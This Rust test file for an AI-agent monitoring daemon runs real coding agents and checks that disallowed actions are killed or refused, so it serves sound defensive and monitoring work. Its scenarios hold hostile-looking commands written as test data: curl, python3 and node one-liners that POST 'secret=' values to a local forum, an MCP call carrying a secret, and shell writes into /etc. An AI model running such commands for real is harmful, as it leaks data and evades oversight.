//! The real-agent tier: Claude Code, Codex and Gemini CLI as installed from npm (pinned in
//! `fixtures/agents/pins.txt`), each driven headless by a scripted model API
//! (`fixtures/agents/model_api.py`) beside the real daemon, under a kill policy (selected by the
//! policy's `[agent.match]`) and, separately, under `agent-monitor exec --agent NAME --`.
//!
//! Per agent and mode, four scenarios (docs/real-agents.md):
//! - a: a read-only task completes untouched: its own model POSTs, its own read tool and (Claude,
//!   Gemini) its own web fetch's GET;
//! - b: a write outside the work directory, by a shell child and by the agent's own file tool;
//! - c: a POST to a forum in clear text and over HTTPS, from curl, python3 and node children;
//! - d: a POST from the agent's own process (its MCP client) to a destination that is not its
//!   model API;
//! - e (kill only): the first week on a real agent: a learning run (alert, `audit = true`), its
//!   `agent-monitor profile`, `policy test` of that profile against the run, then the same task
//!   under `kill` with the learned profile, and a forbidden write still stopped.
//!
//! Every test is `#[ignore]`d: `cargo xtask test` runs them (`--ignored`) after the other
//! end-to-end tests, once it has installed the agents; `cargo xtask test -- real_agents` runs only
//! them, `-- claude::exec` one agent in one mode. With `AGENT_MONITOR_REAL_AGENTS=baseline` the
//! same scenarios run with no daemon and every check flips (the write happens, the POST
//! arrives): the proof that these tests would see a regression.
use std::fs;

use agent_monitor_e2e::agents::{can_run, Agent, Mode, Options, Outcome, Setup, Tier};
use agent_monitor_e2e::f;
use serde_json::json;

/// Why a check failed: the run, then the agent's events.
fn why(s: &Setup, o: &Outcome) -> String {
    format!("{}\n-- events of agent {}\n{}\n-- policy\n{}", o.describe(), s.agent.name(), s.events_text(), s.policy)
}

fn test_name(agent: Agent, mode: Mode, scenario: &str) -> String {
    let mode = if mode == Mode::Kill { "kill" } else { "exec" };
    format!("{}::{mode}::{scenario}", agent.name())
}

/// a. A read-only task: the agent reads a file of its work directory with its own tool,
/// fetches a page with its own web-fetch tool (not Codex: it has none that runs here), and
/// answers. Nothing is stopped: exit 0, the final text printed, every model call a POST under
/// the agent's model path, the file's content sent back to the model, the page's GET served,
/// and no violation.
fn read_only(agent: Agent, mode: Mode) {
    if !can_run(&test_name(agent, mode, "a_read_only_task_completes")) {
        return;
    }
    let s = Setup::new(agent, mode, Options::default());
    let mut steps = vec![json!({"tool": "read", "path": s.work.join("README.txt")})];
    if agent.has_web_fetch() {
        steps.push(json!({"tool": "fetch", "url": s.page_url("read-only"), "prompt": "Return the text of %s"}));
    }
    let o = s.run("read-only", json!({"steps": steps, "final_text": "RO-DONE"}));

    assert!(o.success(), "the read-only task did not complete: {}", why(&s, &o));
    assert!(o.stdout.contains("RO-DONE"), "no final text: {}", why(&s, &o));
    let posts = o.model_posts();
    assert!(posts.len() >= 2, "expected the agent's own model POSTs (one per step and the last): {}", why(&s, &o));
    for p in &posts {
        let path = f(p, "path");
        assert!(agent.model_paths().iter().any(|m| path.starts_with(m)), "model call outside {path}: {}", why(&s, &o));
    }
    assert!(
        posts.iter().any(|p| p["summary"].to_string().contains("READ-ME-MARKER")),
        "the read tool's result (the file's content) never reached the model: {}",
        why(&s, &o)
    );
    if agent.has_web_fetch() {
        let gets = o.requests("web", "GET");
        assert!(
            gets.iter().any(|r| f(r, "path") == "/page/read-only" && r["code"] == 200),
            "the agent's own web fetch GET did not reach the page: {}",
            why(&s, &o)
        );
    }
    assert!(o.requests("mcp", "POST").is_empty() && o.requests("web", "POST").is_empty());
    if s.tier.daemon() {
        s.assert_selected();
        let v = s.violations();
        assert!(v.is_empty(), "violations in a read-only task: {v:#?}\n{}", why(&s, &o));
    }
}

/// b. A write outside the work directory, by a shell child (`echo ... > OUTSIDE/shell.txt`)
/// and by the agent's own file tool (Write / apply_patch / write_file, in the agent's process):
/// the content never lands, the instance is killed (under `exec`, Landlock may refuse the open
/// instead), and the event says file.write, the target and the agent's name.
fn write_outside(agent: Agent, mode: Mode) {
    if !can_run(&test_name(agent, mode, "b_write_outside_the_work_dir")) {
        return;
    }
    let s = Setup::new(agent, mode, Options::default());
    for (name, file, content) in [("shell", "shell.txt", "shell-wrote\n"), ("tool", "tool.txt", "tool-wrote\n")] {
        let path = s.outside.join(file);
        let step = match name {
            "shell" => json!({"tool": "shell", "command": format!("echo shell-wrote > {}", path.display())}),
            _ => json!({"tool": "write", "path": path, "content": content}),
        };
        let o = s.run(&format!("write-{name}"), json!({"steps": [step], "final_text": "WRITE-DONE"}));
        let now = fs::read_to_string(&path).ok();
        if s.tier == Tier::Baseline {
            assert!(o.success() && o.stdout.contains("WRITE-DONE"), "{}", why(&s, &o));
            assert_eq!(now.as_deref(), Some(content), "the {name} write did not happen: {}", why(&s, &o));
            continue;
        }
        assert_ne!(now.as_deref(), Some(content), "the {name} write landed outside the work dir: {}", why(&s, &o));
        // The file itself, or the temporary file an atomic write makes beside it first (Claude
        // Code's Write tool: `tool.txt.tmp.PID.RANDOM`, then a rename).
        let e = s.expect_violation(&o, &format!("file.write of {}", path.display()), |e| {
            let target = f(e, "target");
            let p = path.display().to_string();
            f(e, "kind") == "file.write" && (target == p || target.starts_with(&format!("{p}.tmp.")))
        });
        let refused = !o.killed() && mode == Mode::Exec && now.is_none();
        assert!(o.killed() || refused, "the agent was neither killed nor refused: {e}\n{}", why(&s, &o));
        if now.is_some() {
            // Where no layer refuses the open before it happens (no BPF LSM, no Landlock), the
            // kill lands after an O_CREAT: an empty file, and the event must say so honestly.
            assert_eq!(now.as_deref(), Some(""), "{}", why(&s, &o));
            assert_ne!(f(&e, "layer"), "bpf_lsm", "the LSM layer let the file be created: {e}");
            eprintln!("note: {name}: an empty {} was left by the kill (layer {})", path.display(), f(&e, "layer"));
        }
        eprintln!("{name}: {} {} {} ({})", f(&e, "kind"), f(&e, "action"), f(&e, "layer"), o.status_text());
    }
}

/// c. A POST to a forum (`fixtures/forum_server.py`, which logs every request) by the agent's
/// shell children: curl in clear text and over HTTPS (system libssl), python3 over HTTPS (system
/// libssl), node over HTTPS (NodeSource's node carries its own OpenSSL). The forum receives no
/// POST; the event is net.http_write (node's TLS, where the daemon cannot read it, may instead be
/// refused as opaque TLS: net.connect, rule network.opaque_tls).
fn forum_post(agent: Agent, mode: Mode) {
    if !can_run(&test_name(agent, mode, "c_forum_post_from_children")) {
        return;
    }
    let s = Setup::new(agent, mode, Options::default());
    let ca = s.ca.cert.display().to_string();
    let cases = [
        ("curl-http", false, format!("curl -sS -X POST {} -d secret=curl-http", s.forum_url(false, "curl-http"))),
        (
            "curl-https",
            true,
            format!("curl -sS --cacert {ca} -X POST {} -d secret=curl-https", s.forum_url(true, "curl-https")),
        ),
        (
            "python-https",
            true,
            format!(
                "python3 -c \"import ssl,urllib.request as u; c=ssl.create_default_context(cafile='{ca}'); \
                 print(u.urlopen(u.Request('{}', data=b'secret=python', method='POST'), context=c).status)\"",
                s.forum_url(true, "python-https")
            ),
        ),
        (
            "node-https",
            true,
            format!(
                "NODE_EXTRA_CA_CERTS={ca} node -e \"fetch('{}', {{method: 'POST', body: 'secret=node'}}).then(r => console.log(r.status))\"",
                s.forum_url(true, "node-https")
            ),
        ),
    ];
    for (name, tls, command) in cases {
        let forum = if tls { &s.forum_https } else { &s.forum_http };
        let o = s.run(name, json!({"steps": [{"tool": "shell", "command": command}], "final_text": "POST-DONE"}));
        std::thread::sleep(std::time::Duration::from_millis(200));
        let posts: Vec<String> =
            forum.requests().into_iter().filter(|l| l.starts_with(&format!("POST /{name} "))).collect();
        if s.tier == Tier::Baseline {
            assert!(o.success() && o.stdout.contains("POST-DONE"), "{}", why(&s, &o));
            assert_eq!(posts.len(), 1, "the {name} POST did not arrive: {posts:?}\n{}", why(&s, &o));
            continue;
        }
        assert!(posts.is_empty(), "the forum received the {name} POST: {posts:?}\n{}", why(&s, &o));
        let target = format!("127.0.0.1:{}", forum.port);
        let e = s.expect_violation(&o, &format!("{name}: net.http_write to {target}"), |e| {
            f(e, "target") == target
                && (f(e, "kind") == "net.http_write"
                    || (name == "node-https" && f(e, "kind") == "net.connect" && f(e, "rule") == "network.opaque_tls"))
        });
        eprintln!(
            "{name}: {} {} {} {} ({})",
            f(&e, "kind"),
            f(&e, "rule"),
            f(&e, "action"),
            f(&e, "layer"),
            o.status_text()
        );
    }
}

/// d. The agent's own process POSTs to a destination that is not its model API: its MCP client
/// (configured with the test's MCP server "forum") calls the tool `post` with a secret. The MCP
/// server is a plain `allow` entry (reads only): it receives no POST at all (initialize is a
/// POST too) and the event names why. Claude's (BoringSSL) and Codex's (rustls) TLS cannot be
/// read: the opaque-TLS rule refuses it (net.connect, rule network.opaque_tls). Gemini's goes
/// through node's OpenSSL: a net.http_write where the daemon reads it, else the same rule.
fn own_post_elsewhere(agent: Agent, mode: Mode) {
    if !can_run(&test_name(agent, mode, "d_own_post_to_another_destination")) {
        return;
    }
    let s = Setup::new(agent, mode, Options { mcp: true, ..Options::default() });
    let secret = "secret=mcp-from-agent-process";
    let o = s.run("mcp", json!({"steps": [{"tool": "mcp", "text": secret}], "final_text": "MCP-DONE"}));
    let posts = o.requests("mcp", "POST");
    if s.tier == Tier::Baseline {
        assert!(o.success() && o.stdout.contains("MCP-DONE"), "{}", why(&s, &o));
        let call = posts.iter().find(|r| r["summary"]["method"] == "tools/call");
        assert!(
            call.is_some_and(|c| c["summary"]["arguments"]["text"] == secret),
            "the agent's MCP tools/call with the secret did not arrive: {}",
            why(&s, &o)
        );
        return;
    }
    assert!(posts.is_empty(), "the MCP server received POSTs from the agent's own process: {}", why(&s, &o));
    let target = format!("127.0.0.1:{}", s.api.mcp);
    let e = s.expect_violation(&o, &format!("the agent's own POST to {target}"), |e| {
        let opaque = f(e, "kind") == "net.connect" && f(e, "rule") == "network.opaque_tls";
        f(e, "target") == target && (opaque || (agent == Agent::Gemini && f(e, "kind") == "net.http_write"))
    });
    eprintln!("mcp: {} {} {} {} ({})", f(&e, "kind"), f(&e, "rule"), f(&e, "action"), f(&e, "layer"), o.status_text());
}

/// e. From alert to kill on a real agent (issue 17): learn the task (read a file, write one in
/// the work directory with the file tool and one with the shell, fetch a page where the agent can), learn its profile, replay the run
/// against it (nothing refused), then run the same task under `kill` with only the learned
/// profile (it completes, nothing is a violation) and a shell write to /etc (killed, the file
/// never lands).
fn learned_profile(agent: Agent) {
    if !can_run(&format!("{}::e_learned_profile_under_kill", agent.name())) || !Tier::get().daemon() {
        return;
    }
    let mut s = Setup::new(agent, Mode::Kill, Options { learn: true, ..Options::default() });
    let mut steps = vec![
        json!({"tool": "read", "path": s.work.join("README.txt")}),
        json!({"tool": "write", "path": s.work.join("notes.txt"), "content": "learned\n"}),
        // (the shell tool's own needs are learned too: Gemini's makes a directory in /tmp)
        json!({"tool": "shell", "command": format!("echo shell-ok > {}", s.work.join("shell.txt").display())}),
    ];
    if agent.has_web_fetch() {
        steps.push(json!({"tool": "fetch", "url": s.page_url("learn"), "prompt": "Return the text of %s"}));
    }
    let task = json!({"steps": steps, "final_text": "LEARN-DONE"});
    let o = s.run("learn", task.clone());
    assert!(o.success() && o.stdout.contains("LEARN-DONE"), "the learning run failed: {}", why(&s, &o));
    let log = s.root.0.join("learning.jsonl");
    std::thread::sleep(std::time::Duration::from_millis(300));
    fs::copy(&s.daemon().events, &log).unwrap();
    s.daemon = None; // the learning daemon stops
    let am = |args: &[&str]| {
        let o = std::process::Command::new(agent_monitor_e2e::binary().unwrap()).args(args).output().unwrap();
        let text = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
        eprintln!("agent-monitor {}: {}\n{text}", args.join(" "), o.status);
        (o.status.code(), String::from_utf8_lossy(&o.stdout).to_string())
    };
    let log_arg = log.display().to_string();
    let (code, learned) = am(&["profile", "--agent", agent.name(), "--events", &log_arg, "--action", "kill"]);
    assert_eq!(code, Some(0));
    let file = s.root.0.join("learned.toml");
    fs::write(&file, &learned).unwrap();
    assert_eq!(am(&["check", &file.display().to_string()]).0, Some(0), "{learned}");
    let (code, report) = am(&["policy", "test", &file.display().to_string(), "--events", &log_arg]);
    assert_eq!(code, Some(0), "the learned profile refuses what it was learned from: {report}");

    // Enforce: only the learned profile.
    s.policy = learned.clone();
    s.daemon = Some(agent_monitor_e2e::Daemon::start(&learned));
    let o = s.run("enforce", task);
    assert!(
        o.success() && o.stdout.contains("LEARN-DONE"),
        "the task failed under its learned profile: {}",
        why(&s, &o)
    );
    let v = s.violations();
    assert!(v.is_empty(), "violations under the learned profile: {v:#?}\n{}", why(&s, &o));
    let forbidden = std::path::PathBuf::from(format!("/etc/am-realagent-forbidden-{}", std::process::id()));
    let _ = fs::remove_file(&forbidden);
    let step = json!({"tool": "shell", "command": format!("echo learned-wrote > {}", forbidden.display())});
    let o = s.run("forbidden", json!({"steps": [step], "final_text": "WRITE-DONE"}));
    let landed = fs::read_to_string(&forbidden).ok();
    let _ = fs::remove_file(&forbidden);
    assert_ne!(landed.as_deref(), Some("learned-wrote\n"), "the forbidden write landed: {}", why(&s, &o));
    let e = s.expect_violation(&o, "the forbidden write", |e| {
        f(e, "kind") == "file.write" && f(e, "target") == forbidden.display().to_string()
    });
    assert!(o.killed(), "the agent was not killed: {e}\n{}", why(&s, &o));
}

macro_rules! tier {
    ($($agent:ident: $a:expr;)*) => {$(
        mod $agent {
            use super::*;
            macro_rules! mode {
                ($mode:ident, $m:expr) => {
                    mod $mode {
                        use super::*;
                        #[test]
                        #[ignore = "real-agent tier: run by `cargo xtask test` (`-- real_agents`), needs `cargo xtask setup --agents`"]
                        fn a_read_only_task_completes() {
                            read_only($a, $m)
                        }
                        #[test]
                        #[ignore = "real-agent tier: run by `cargo xtask test` (`-- real_agents`), needs `cargo xtask setup --agents`"]
                        fn b_write_outside_the_work_dir() {
                            write_outside($a, $m)
                        }
                        #[test]
                        #[ignore = "real-agent tier: run by `cargo xtask test` (`-- real_agents`), needs `cargo xtask setup --agents`"]
                        fn c_forum_post_from_children() {
                            forum_post($a, $m)
                        }
                        #[test]
                        #[ignore = "real-agent tier: run by `cargo xtask test` (`-- real_agents`), needs `cargo xtask setup --agents`"]
                        fn d_own_post_to_another_destination() {
                            own_post_elsewhere($a, $m)
                        }
                    }
                };
            }
            mode!(kill, Mode::Kill);
            mode!(exec, Mode::Exec);
            #[test]
            #[ignore = "real-agent tier: run by `cargo xtask test` (`-- real_agents`), needs `cargo xtask setup --agents`"]
            fn e_learned_profile_under_kill() {
                learned_profile($a)
            }
        }
    )*};
}

tier! {
    claude: Agent::Claude;
    codex: Agent::Codex;
    gemini: Agent::Gemini;
}

/// The other agent CLIs of the default policy, as their installers leave them (opencode from
/// npm, aider from PyPI; goose's installer downloads from GitHub, out of reach here): started,
/// each is a new instance of the default policy's `agent-cli`, by the name it runs under.
mod other_clis {
    use agent_monitor_e2e::agents::{install_dir, pins, INSTALLED_MARKER};
    use agent_monitor_e2e::{can_run_root_tests, f, Daemon, TempDir};
    use std::process::{Command, Stdio};

    #[test]
    #[ignore = "real-agent tier: run by `cargo xtask test` (`-- real_agents`), needs `cargo xtask setup --agents`"]
    fn the_default_policy_selects_opencode_and_aider_as_they_start() {
        if !can_run_root_tests("the_default_policy_selects_opencode_and_aider_as_they_start") {
            return;
        }
        // The shipped policy's agents (its [daemon] settings would pin under /sys/fs/bpf and
        // write to /var/log: the test's daemon has its own).
        let shipped =
            std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../deploy/agent-monitor.toml")).unwrap();
        let d = Daemon::start(&shipped[shipped.find("\n[[agent]]").expect("the shipped policy has agents")..]);
        let home = TempDir::new("other-clis");
        let pin = |name: &str| {
            let p = pins().into_iter().find(|p| p.agent == name).unwrap_or_else(|| panic!("{name} is not in pins.txt"));
            let dir = install_dir(&p);
            assert!(
                dir.join(INSTALLED_MARKER).exists(),
                "{} is not installed: run `cargo xtask setup --agents`",
                p.spec()
            );
            dir
        };
        let (opencode, aider) = (pin("opencode"), pin("aider"));
        let cases = [
            ("opencode", opencode.join("node_modules/.bin/opencode")),
            ("opencode.exe", opencode.join("node_modules/opencode-ai/bin/opencode.exe")),
            ("aider", aider.join("pypi/bin/aider")),
        ];
        for (comm, program) in cases {
            // (aider without its dependencies fails to import; it has started by then)
            let st = Command::new(&program)
                .arg("--version")
                .env("HOME", home.path())
                .env("PYTHONPATH", aider.join("pypi"))
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .unwrap_or_else(|e| panic!("cannot start {}: {e}", program.display()));
            eprintln!("{comm}: {} --version: {st}", program.display());
            let e = d.wait_event(&format!("{comm} selected"), |e| {
                f(e, "kind") == "process.exec"
                    && f(e, "comm") == comm
                    && f(e, "detail").starts_with("new agent instance")
            });
            assert_eq!(f(&e, "agent"), "agent-cli", "{e}");
        }
    }
}
